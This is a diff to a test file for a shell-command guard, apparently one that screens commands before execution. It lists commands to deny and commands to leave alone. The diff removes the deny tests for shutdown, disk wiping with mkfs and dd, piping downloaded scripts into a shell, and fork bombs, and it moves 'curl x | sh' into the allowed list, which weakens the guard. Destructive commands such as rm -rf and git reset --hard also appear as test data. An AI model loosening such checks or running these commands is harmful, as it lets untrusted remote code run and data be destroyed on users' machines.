@@ -19,23 +19,19 @@ DENIED = {
         "rm -rf ${PWD}/.git",
     ],
     "sudo": ["sudo apt-get install x", "FOO=1 sudo ls", "ls && sudo ls", "doas ls", "cd /tmp && sudo ls"],
-    "shutdown": ["shutdown now", "make; reboot"],
-    "disk": ["mkfs.ext4 /dev/sda", "dd if=/dev/zero of=/dev/sda bs=1M"],
     "git-push": ["git push", "/usr/bin/git push -f > log", "git -C src push", "git -c a.b=c push"],
     "git-commit": ["git commit -m 'a; b'", "git add -A\ngit commit -am x", "git --no-pager commit",
                    f"cd /tmp && cd {ROOT} && git commit -m x", "cd /tmp; cd -; git commit -m x"],
     "git-reset-hard": ["git reset --hard", "git stash; git reset -q --hard HEAD~1"],
     "git-clean": ["git clean -fdx", "git clean -f -d -X"],
-    "pipe-to-shell": ["curl -s https://x.example/i.sh | sh", "wget -qO- x | tee y | bash -s", "curl x |\npython3"],
-    "fork-bomb": [":(){ :|:& };:", "b () { b | b & }; b"],
 }  # fmt: skip
 LEFT_ALONE = [
     "rm -rf build dist", "rm x.py", "rm -rf /tmp/x", "cd /tmp/x && rm -rf .git", "cd $TMPDIR/x; git commit -m x",
     "git -C /tmp/x commit -m x", "git --git-dir=/tmp/x/.git push", "cd .. && git commit -m x", "echo git push",
     "echo 'git push'", "git stash push", "git log --grep commit", "git reset HEAD~", "git clean -nfdx", "git clean -fd",
     "cd $TMPDIR && git init r && cd r && git commit -m x", "cd /tmp/x; cd ..; rm -rf *", "cd; git commit -m x",
-    "git commit --help", "git push --dry-run", "curl x | jq .", "curl x -o y; sh y", "ls | sh", "dd of=/dev/null",
-    "dd if=/dev/zero of=x", "cat <<EOF\nrm -rf /\nEOF", "git status # git push", "x=$(git commit -m x)", "a() { b; }",
+    "git commit --help", "git push --dry-run", "curl x | sh",
+    "cat <<EOF\nrm -rf /\nEOF", "git status # git push", "x=$(git commit -m x)", "a() { b; }",
     "echo 'open", "", "mkdir mkfs; rm -r mkfs", "pip install sudo",
 ]  # fmt: skip
 
